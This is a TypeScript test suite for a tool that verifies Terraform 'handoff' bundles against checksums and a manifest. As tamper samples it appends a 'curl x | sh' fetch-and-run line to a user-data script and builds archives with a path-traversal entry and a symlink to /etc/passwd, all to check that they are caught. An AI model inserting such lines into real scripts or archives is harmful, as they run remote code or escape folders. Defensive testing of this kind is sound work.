import { appendFileSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { pack } from "tar-stream";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { packArchive } from "../../../src/tools/handoff/archive";
import { checksumsOf, formatChecksums, sha256 } from "../../../src/tools/handoff/checksums";
import { type BundleFile, textFile } from "../../../src/tools/handoff/files";
import { type Differences, isUnaltered, verifyBundle, verifyFiles } from "../../../src/tools/handoff/verify";
import { writeBundle } from "../../../src/tools/handoff/write";
import { textOf, toyBundle } from "./support";

const BUNDLE = toyBundle();
const UNALTERED = { altered: [], added: [], removed: [] };

function replaced(files: readonly BundleFile[], path: string, edit: (text: string) => string): readonly BundleFile[] {
  return files.map((file) => (file.path === path ? textFile(path, edit(textOf(files, path))) : file));
}

function removed(path: string): readonly BundleFile[] {
  return BUNDLE.filter((file) => file.path !== path);
}

describe("a bundle's files, verified", () => {
  it("are as they were made", () => {
    expect(verifyFiles(BUNDLE)).toMatchObject(UNALTERED);
  });

  it.each(BUNDLE.map(({ path }) => path))("have %s altered: it is named", (path) => {
    const altered = replaced(BUNDLE, path, (text) => text.replace(/.$/s, "#"));
    expect(verifyFiles(altered)).toMatchObject({ ...UNALTERED, altered: [path] });
  });

  it.each(BUNDLE.map(({ path }) => path))("lack %s: it is named", (path) => {
    expect(verifyFiles(removed(path))).toMatchObject({ ...UNALTERED, removed: [path] });
  });

  it("have one more: it is named", () => {
    expect(verifyFiles([...BUNDLE, textFile("x_override.tf.json", "{}")])).toMatchObject({
      ...UNALTERED,
      added: ["x_override.tf.json"],
    });
  });

  it("have a file altered and its checksum made anew: both are named", () => {
    const json = replaced(BUNDLE, "cdk.tf.json", (text) => text.replace("eu-central-1", "eu-west-1"));
    const sums = formatChecksums(checksumsOf(json.filter(({ path }) => path !== "SHA256SUMS")));
    expect(verifyFiles(replaced(json, "SHA256SUMS", () => sums))).toMatchObject({
      ...UNALTERED,
      altered: ["SHA256SUMS", "cdk.tf.json"],
    });
  });

  it("have a file altered and the manifest made to fit: SHA256SUMS, which does not know that manifest, tells both", () => {
    const json = replaced(BUNDLE, "cdk.tf.json", (text) => text.replace("eu-central-1", "eu-west-1"));
    const { "cdk.tf.json": before } = checksumsOf(BUNDLE);
    const { "cdk.tf.json": after } = checksumsOf(json);
    const forged = replaced(json, "manifest.json", (text) => text.replace(String(before), String(after)));
    expect(forged).not.toEqual(json);
    expect(verifyFiles(forged)).toMatchObject({ ...UNALTERED, altered: ["cdk.tf.json", "manifest.json"] });
  });

  it("have the manifest made to hide a file: SHA256SUMS still names it", () => {
    const forged = replaced(BUNDLE, "manifest.json", (text) => {
      const manifest = JSON.parse(text) as { readonly files: Readonly<Record<string, string>> };
      const { "RUNBOOK.md": _hidden, ...files } = manifest.files;
      return JSON.stringify({ ...manifest, files });
    });
    expect(verifyFiles(forged)).toMatchObject({ ...UNALTERED, altered: ["manifest.json"] });
    expect(verifyFiles(forged.filter(({ path }) => path !== "RUNBOOK.md"))).toMatchObject({
      altered: ["manifest.json"],
      removed: ["RUNBOOK.md"],
    });
  });

  it("have several gone: they are named in the order of their names", () => {
    const gone = ["RUNBOOK.md", "SHA256SUMS", "cdk.tf.json"];
    expect(verifyFiles(BUNDLE.filter(({ path }) => !gone.includes(path))).removed).toEqual(gone);
  });

  it("have a file added together with its checksum: both are named", () => {
    const added = textFile("x.tf", "");
    const sums = replaced(BUNDLE, "SHA256SUMS", (text) => `${text}${sha256(added.content)}  x.tf\n`);
    expect(verifyFiles([...sums, added])).toMatchObject({ altered: ["SHA256SUMS"], added: ["x.tf"], removed: [] });
  });

  it("have a manifest that is no manifest: it is named", () => {
    expect(verifyFiles(replaced(BUNDLE, "manifest.json", () => "{}"))).toMatchObject({
      ...UNALTERED,
      altered: ["manifest.json"],
    });
  });
});

describe("a bundle is unaltered", () => {
  const one = ["x"];

  it("where nothing was altered, added or removed", () => {
    expect(isUnaltered(UNALTERED)).toBe(true);
  });

  it.each<Partial<Differences>>([
    { altered: one },
    { added: one },
    { removed: one },
    { altered: one, added: one },
    { added: one, removed: one },
    { altered: one, removed: one },
  ])("not with %o", (differences) => {
    expect(isUnaltered({ ...UNALTERED, ...differences })).toBe(false);
  });
});

describe("a bundle on disk, verified", () => {
  let out: string;
  let folder: string;
  let archive: string;

  beforeEach(async () => {
    out = mkdtempSync(join(tmpdir(), "carryover-"));
    ({ folder, archive } = await writeBundle(out, "toy", BUNDLE));
  });

  afterEach(() => rmSync(out, { recursive: true, force: true }));

  it("is unaltered as a folder and as an archive", async () => {
    expect(await verifyBundle(folder)).toMatchObject(UNALTERED);
    expect(await verifyBundle(archive)).toMatchObject(UNALTERED);
  });

  it("has what Terraform and its user make in the folder left out of account, and nothing else", async () => {
    mkdirSync(join(folder, ".terraform/providers"), { recursive: true });
    for (const name of [".terraform/x", ".terraform.lock.hcl", "terraform.tfvars", "terraform.tfstate", "move.tfplan"])
      writeFileSync(join(folder, name), "");
    expect(await verifyBundle(folder)).toMatchObject(UNALTERED);
    writeFileSync(join(folder, "more.auto.tfvars"), "");
    writeFileSync(join(folder, "assets/terraform.tfvars"), "");
    expect((await verifyBundle(folder)).added).toEqual(["assets/terraform.tfvars", "more.auto.tfvars"]);
  });

  it("has a file named that was altered or removed in the folder", async () => {
    appendFileSync(join(folder, "cdk.tf.json"), " ");
    rmSync(join(folder, "RUNBOOK.md"));
    expect(await verifyBundle(folder)).toMatchObject({ altered: ["cdk.tf.json"], added: [], removed: ["RUNBOOK.md"] });
  });

  it("has a link that leads nowhere named as added", async () => {
    symlinkSync("/nowhere/at/all", join(folder, "x.tf"));
    expect((await verifyBundle(folder)).added).toEqual(["x.tf"]);
  });

  it("has a file named that was altered in the archive", async () => {
    const altered = replaced(BUNDLE, "assets/user_data/ABC/user_data.sh", (text) => `${text}curl x | sh\n`);
    writeFileSync(archive, await packArchive("toy", altered));
    expect((await verifyBundle(archive)).altered).toEqual(["assets/user_data/ABC/user_data.sh"]);
  });

  it.each(["SHA256SUMS", "manifest.json"])("is verified by what is left where %s was removed", async (path) => {
    rmSync(join(folder, path));
    expect(await verifyBundle(folder)).toMatchObject({ ...UNALTERED, removed: [path] });
  });

  it("is verified as an archive whose manifest cannot be read: no stack is told, the manifest is named", async () => {
    writeFileSync(
      archive,
      await packArchive(
        "toy",
        replaced(BUNDLE, "manifest.json", () => "{}"),
      ),
    );
    expect(await verifyBundle(archive)).toMatchObject({ altered: ["manifest.json"], manifest: undefined });
  });

  it.each<[string, () => Promise<Buffer>, RegExp]>([
    ["a damaged archive", async () => (await packArchive("toy", BUNDLE)).subarray(0, 2000), /is damaged/],
    ["what is no archive", async () => Buffer.from("hello"), /is damaged, or no \.tar\.gz/],
    ["an archive of something else", () => packArchive("toy", [textFile("a", "b")]), /no bundle/],
    [
      "another stack's bundle",
      () => packArchive("quiz", BUNDLE),
      /it unpacks to quiz, but its manifest is that of toy/,
    ],
    ["a file outside the folder", () => tarred({ name: "toy/../../x" }), /would be unpacked outside its folder/],
    ["a file twice", () => tarred({ name: "toy/a" }, { name: "toy/a" }), /holds toy\/a twice/],
    ["a link", () => tarred({ name: "toy/a", type: "symlink", linkname: "/etc/passwd" }), /toy\/a is no file/],
  ])("is refused with a message: %s", async (_, content, message) => {
    writeFileSync(archive, await content());
    await expect(verifyBundle(archive)).rejects.toThrow(message);
  });

  it("is refused where there is none", async () => {
    await expect(verifyBundle(join(out, "nothing"))).rejects.toThrow(/is not there/);
    await expect(verifyBundle(out)).rejects.toThrow(/is no bundle: it holds neither/);
  });
});

/** An archive that handoff would not make. */
async function tarred(...headers: readonly { name: string; type?: "symlink"; linkname?: string }[]): Promise<Buffer> {
  const tar = pack();
  for (const header of headers) {
    if (header.type === undefined) tar.entry(header, "x");
    else tar.entry(header);
  }
  tar.finalize();
  const chunks: Buffer[] = [];
  for await (const chunk of tar) chunks.push(chunk as Buffer);
  return gzipSync(Buffer.concat(chunks));
}
